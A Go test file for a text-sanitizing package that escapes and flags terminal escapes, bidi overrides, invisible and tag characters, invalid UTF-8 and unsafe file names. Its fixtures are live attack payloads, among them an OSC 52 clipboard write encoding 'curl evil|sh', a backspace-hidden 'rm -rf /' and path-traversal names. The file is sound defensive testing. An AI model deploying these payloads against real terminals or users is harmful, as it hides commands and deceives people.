package sanitize

import (
	"strings"
	"testing"
)

// Real payloads. Expected outputs are written by hand from the notation in
// docs/SANITIZE.md, not produced by running the code.
var payloads = []struct {
	name  string
	in    string
	line  string
	flags Flags
}{
	{"clear screen CSI", "\x1b[2J", `\e[2J`, Control | TerminalEscape},
	{"SGR colour", "\x1b[31mred\x1b[0m", `\e[31mred\e[0m`, Control | TerminalEscape},
	{"OSC 0 window title", "\x1b]0;pwned\x07", `\e]0;pwned\x07`, Control | TerminalEscape | Bell},
	{"OSC 52 clipboard write", "\x1b]52;c;Y3VybCBldmlsfHNo\x07", `\e]52;c;Y3VybCBldmlsfHNo\x07`, Control | TerminalEscape | Bell},
	{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
		`\e]8;;https://evil.example/\e\\click\e]8;;\e\\`, Control | TerminalEscape},
	{"unterminated OSC", "\x1b]0;never ends", `\e]0;never ends`, Control | TerminalEscape},
	{"one-byte CSI 0x9B", "\x9b2J", `\x9b2J`, InvalidUTF8 | Control | TerminalEscape},
	{"one-byte OSC 0x9D", "\x9d0;t\x9c", `\x9d0;t\x9c`, InvalidUTF8 | Control | TerminalEscape},
	{"C1 CSI as UTF-8 rune", "\u009b2J", `<U+009B>2J`, Control | TerminalEscape},
	{"C1 NEL rune", "a\u0085b", `a<U+0085>b`, Control | TerminalEscape},
	{"carriage return overwrite", "safe\rEVIL", `safe\rEVIL`, CarriageReturn},
	{"trailing carriage return", "text\r", `text\r`, CarriageReturn},
	{"CRLF line ending", "a\r\nb", `a\r\nb`, 0},
	{"backspace overwrite", "rm -rf /\b\b\b\b\b\b\bls", `rm -rf /\x08\x08\x08\x08\x08\x08\x08ls`, Control},
	{"NUL", "a\x00b", `a\x00b`, Control},
	{"DEL", "a\x7fb", `a\x7fb`, Control},
	{"bell and vertical tab", "\a\v\f", `\x07\x0b\x0c`, Control | Bell},
	{"tab and newline", "a\tb\nc", `a\tb\nc`, 0},
	{"Trojan Source RLO and isolates",
		"if access != \"user\u202e \u2066// admin\u2069 \u2066\" {",
		`if access != "user<U+202E> <U+2066>// admin<U+2069> <U+2066>" {`, Bidi | BidiOverride},
	{"bidi marks", "\u200ea\u200fb\u061c", `<U+200E>a<U+200F>b<U+061C>`, Bidi},
	{"zero-width joiner hidden", "pay\u200dpal", `pay<U+200D>pal`, Invisible},
	{"zero-width space", "ig\u200bnore all rules", `ig<U+200B>nore all rules`, Invisible},
	{"word joiner and BOM", "\ufeffa\u2060b", `<U+FEFF>a<U+2060>b`, Invisible},
	{"soft hyphen", "pass\u00adword", `pass<U+00AD>word`, Invisible},
	{"Mongolian vowel separator", "a\u180eb", `a<U+180E>b`, Invisible},
	{"Hangul filler", "\u3164", `<U+3164>`, Invisible},
	{"line separator", "a\u2028b\u2029", `a<U+2028>b<U+2029>`, Invisible},
	{"tag characters (ASCII smuggling)", "hi\U000E0069\U000E0067\U000E007F", `hi<U+E0069><U+E0067><U+E007F>`, Tag},
	{"variation selector smuggling", "😀\ufe0f\U000E0100\U000E01EF", "😀\ufe0f<U+E0100><U+E01EF>", VariationSelector},
	{"selector at start", "\ufe0fx", `<U+FE0F>x`, VariationSelector},
	{"doubled emoji selector", "❤\ufe0f\ufe0f", "❤\ufe0f<U+FE0F>", VariationSelector},
	{"selector after escape", "\x1b\ufe0f", `\e<U+FE0F>`, Control | TerminalEscape | VariationSelector},
	{"CJK selector", "葛\ufe00", `葛<U+FE00>`, VariationSelector},
	{"invalid UTF-8 byte", "a\xffb", `a\xffb`, InvalidUTF8},
	{"truncated sequence", "\xc3(", `\xc3(`, InvalidUTF8},
	{"overlong slash", "\xc0\xaf", `\xc0\xaf`, InvalidUTF8},
	// A stray 0x80-0x9F byte is a C1 control to an 8-bit terminal.
	{"encoded surrogate", "\xed\xa0\x80", `\xed\xa0\x80`, InvalidUTF8 | Control | TerminalEscape},
	{"Latin-1 byte above C1", "caf\xe9", `caf\xe9`, InvalidUTF8},
	{"beyond U+10FFFF", "\xf4\x90\x80\x80", `\xf4\x90\x80\x80`, InvalidUTF8 | Control | TerminalEscape},
	{"real U+FFFD stays", "\ufffd", "\ufffd", 0},
	{"clean mixed script", "Grüße, 世界! ❤️ café e\u0301", "Grüße, 世界! ❤️ café e\u0301", 0},
	// The escape characters are escaped: literal text never prints like an
	// escape, so the two inputs below print differently (issue 23, item 11).
	{"literal backslash text", `C:\x1b\e`, `C:\\x1b\\e`, 0},
	{"literal code point notation", "Acme Holdings<U+200B>", `Acme Holdings\<U+200B>`, 0},
	{"real zero-width space", "Acme Holdings\u200b", "Acme Holdings<U+200B>", Invisible},
	{"a less-than sign alone", "a < b <U b<U", "a < b <U b<U", 0},
	{"empty", "", "", 0},
}

func TestLinePayloads(t *testing.T) {
	for _, p := range payloads {
		t.Run(p.name, func(t *testing.T) {
			got := Line(p.in)
			if got != p.line {
				t.Errorf("Line(%q) = %q, want %q", p.in, got, p.line)
			}
			if f := Findings(p.in); f != p.flags {
				t.Errorf("Findings(%q) = %v, want %v", p.in, f, p.flags)
			}
			checkProperties(t, p.in, false, 0)
			checkProperties(t, p.in, true, 4)
		})
	}
}

func TestBlock(t *testing.T) {
	cases := []struct {
		name     string
		in       string
		tabWidth int
		want     string
	}{
		{"tab to first stop", "a\tb", 4, "a   b"},
		{"tab at stop", "abcd\te", 4, "abcd    e"},
		{"leading tab", "\tx", 4, "    x"},
		{"two tabs", "\t\tx", 2, "    x"},
		{"wide rune counts two cells", "世\tx", 4, "世  x"},
		{"combining mark counts zero cells", "e\u0301\tx", 4, "e\u0301   x"},
		{"escape counts its own width", "\x1b\tx", 4, `\e` + "  x"},
		{"column restarts after newline", "abc\nd\tx", 4, "abc\nd   x"},
		{"newline kept, CR shown", "one\r\ntwo", 4, "one\\r\ntwo"},
		{"CR overwrite shown", "safe\rEVIL\n", 4, "safe\\rEVIL\n"},
		{"default width for zero", "\tx", 0, strings.Repeat(" ", DefaultTabWidth) + "x"},
		{"default width for negative", "\tx", -3, strings.Repeat(" ", DefaultTabWidth) + "x"},
		{"width capped", "\tx", 1000, strings.Repeat(" ", MaxTabWidth) + "x"},
		{"escapes in block", "a\x1b[2J\nb\u202e", 8, "a\\e[2J\nb<U+202E>"},
		{"selector after newline", "\n\ufe0f", 8, "\n<U+FE0F>"},
		{"selector after tab", "\t\ufe0f", 2, "  <U+FE0F>"},
		{"clean multi-line", "line one\nline two\n", 8, "line one\nline two\n"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := Block(c.in, c.tabWidth)
			if got != c.want {
				t.Errorf("Block(%q, %d) = %q, want %q", c.in, c.tabWidth, got, c.want)
			}
			checkProperties(t, c.in, true, c.tabWidth)
		})
	}
}

func TestPiecesMarkEscapes(t *testing.T) {
	got := LinePieces("a\x1b[1mb\u202e")
	want := []Piece{{Verbatim, "a"}, {Escape, `\e`}, {Verbatim, "[1mb"}, {Escape, "<U+202E>"}}
	if !equalPieces(got, want) {
		t.Fatalf("LinePieces = %q, want %q", got, want)
	}
	// A literal backslash sequence is an escaped backslash and a letter, a
	// real ESC one escape: they differ as pieces and as strings.
	literal := LinePieces(`\e`)
	real := LinePieces("\x1b")
	if len(literal) != 2 || literal[0] != (Piece{Escape, `\\`}) || literal[1] != (Piece{Verbatim, "e"}) || len(real) != 1 || real[0].Kind != Escape {
		t.Fatalf("literal %q and real %q ESC not distinguished", literal, real)
	}
	tabs := BlockPieces("a\tb", 4)
	wantTabs := []Piece{{Verbatim, "a"}, {TabSpaces, "   "}, {Verbatim, "b"}}
	if !equalPieces(tabs, wantTabs) {
		t.Fatalf("BlockPieces = %q, want %q", tabs, wantTabs)
	}
	if p := LinePieces(""); len(p) != 0 {
		t.Fatalf("LinePieces(\"\") = %q, want none", p)
	}
}

func equalPieces(a, b []Piece) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

func TestSupplementaryEscapeDigits(t *testing.T) {
	// Written out by hand: four digits minimum, five or six beyond the BMP.
	cases := map[rune]string{
		0x0085:   "<U+0085>",
		0x202E:   "<U+202E>",
		0xE0041:  "<U+E0041>",
		0xE01EF:  "<U+E01EF>",
		0x10FFFF: "<U+10FFFF>",
	}
	for r, want := range cases {
		if got := string(appendEscape(nil, r, classInvisible)); got != want {
			t.Errorf("escape of %U = %q, want %q", r, got, want)
		}
	}
}

func TestCleanInputIsNotCopied(t *testing.T) {
	for _, s := range []string{"plain ascii text", "Grüße 世界 ❤️", ""} {
		if got := Line(s); got != s {
			t.Errorf("Line(%q) changed clean input to %q", s, got)
		}
		if n := testing.AllocsPerRun(100, func() { _ = Line(s) }); n != 0 {
			t.Errorf("Line(%q) allocates %v times, want 0", s, n)
		}
		multi := s + "\n" + s
		if n := testing.AllocsPerRun(100, func() { _ = Block(multi, 8) }); n != 0 {
			t.Errorf("Block(%q) allocates %v times, want 0", multi, n)
		}
		if n := testing.AllocsPerRun(100, func() { _ = Findings(s) }); n != 0 {
			t.Errorf("Findings(%q) allocates %v times, want 0", s, n)
		}
	}
	dirty := "a\x1b[2J\u202e\xff"
	if n := testing.AllocsPerRun(100, func() { _ = Findings(dirty) }); n != 0 {
		t.Errorf("Findings(dirty) allocates %v times, want 0", n)
	}
}

func TestFlagsNames(t *testing.T) {
	if got := Flags(0).String(); got != "none" {
		t.Errorf("Flags(0).String() = %q", got)
	}
	f := Bidi | InvalidUTF8 | Tag
	if got := f.String(); got != "invalid-utf8,bidi,tag" {
		t.Errorf("String() = %q", got)
	}
	if !f.Has(Bidi|Tag) || f.Has(Bidi|Control) {
		t.Errorf("Has is wrong for %v", f)
	}
	all := Flags(1<<flagCount - 1)
	if n := len(all.Names()); n != flagCount {
		t.Errorf("all flags give %d names, want %d", n, flagCount)
	}
}

func TestFilename(t *testing.T) {
	cases := []struct{ in, want string }{
		{"report.json", "report.json"},
		{"../../etc/passwd", "_._.._etc_passwd"},
		{".bashrc", "_bashrc"},
		{"-rf", "_rf"},
		{"a/b\\c:d", "a_b_c_d"},
		{"evil\x1b]0;t\x07.txt", "evil__0_t_.txt"},
		{"name.", "name_"},
		{"CON", "_CON"},
		{"com1.txt", "_com1.txt"},
		{"lpt9", "_lpt9"},
		{"console", "console"},
		{"Grüße", "Gr__e"},
		{"a\xffb", "a_b"},
		{"", "_"},
		{strings.Repeat("x", 500), strings.Repeat("x", MaxFilenameLen)},
		{"NULL", "NULL"},
		{"nul." + strings.Repeat("x", 500), "_nul." + strings.Repeat("x", MaxFilenameLen-5)},
	}
	for _, c := range cases {
		if got := Filename(c.in); got != c.want {
			t.Errorf("Filename(%q) = %q, want %q", c.in, got, c.want)
		}
		checkFilename(t, c.in)
	}
}

// Clusters that reach across a run boundary: a prepended concatenation mark
// before an escape, combining and spacing marks after an escape or a tab,
// regional indicators and Hangul jamo split by an escape. checkProperties
// measures each whole output line, so tab stops must land exactly.
func TestBlockTabStopsAcrossClusters(t *testing.T) {
	for _, s := range []string{
		"\U000111C2\x1b\tx",
		"a\U000111C2\tx",
		"\u0d4e\u200b\tx",
		"\x1b\u0d4e\x1b\t\u0903\x1b\u0301\t",
		"\U0001F1FA\x1b\U0001F1F8\t|",
		"\u1100\x1b\u1161\t|",
		"世界\t|\n\t世\t|",
	} {
		for _, w := range []int{1, 3, 4, 8} {
			checkProperties(t, s, true, w)
		}
	}
}

// No two inputs print the same: an id with a zero-width space and an id
// that literally spells the escape differ in print, and each printed form
// unescapes to its own input only (issue 23, item 11).
func TestPrintedFormsAreUnambiguous(t *testing.T) {
	inputs := []string{"Acme Holdings\u200b", "Acme Holdings<U+200B>", `Acme Holdings\<U+200B>`, "a\x1bb", `a\eb`, `a\\eb`, "a\\\x1bb", `\`, `\\`, "<U+", "<U+>"}
	seen := map[string]string{}
	for _, in := range inputs {
		out := Line(in)
		if prev, dup := seen[out]; dup {
			t.Errorf("%q and %q both print %q", prev, in, out)
		}
		seen[out] = in
		if back, ok := Unescape(out); !ok || back != in {
			t.Errorf("Unescape(%q) = %q, %v; want %q", out, back, ok, in)
		}
	}
	for _, bad := range []string{`a\`, `\q`, `\x4`, "<U+ZZZZ>", "<U+110000>"} {
		if _, ok := Unescape(bad); ok {
			t.Errorf("Unescape(%q) accepted text Line never prints", bad)
		}
	}
}
